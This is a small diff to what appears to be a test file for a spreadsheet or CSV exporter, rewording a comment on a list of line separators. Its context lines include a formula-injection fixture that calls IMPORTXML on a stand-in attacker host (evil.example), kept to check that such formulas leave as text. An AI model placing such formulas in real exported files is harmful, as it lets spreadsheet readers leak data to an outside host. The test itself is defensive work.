@@ -10,7 +10,7 @@ const FORMULAS = [
   'IMPORTXML("https://evil.example","//a")',
 ];
 
-/** What a reader splits a line at, whatever the file says. */
+/** Readers split a line at these, whatever the file says. */
 const SEPARATORS = [',', ';', '\t', '|', '\n', '"'];
 
 test('40 formulas leave as text, in any column, and each row keeps its cells (A9)', () => {
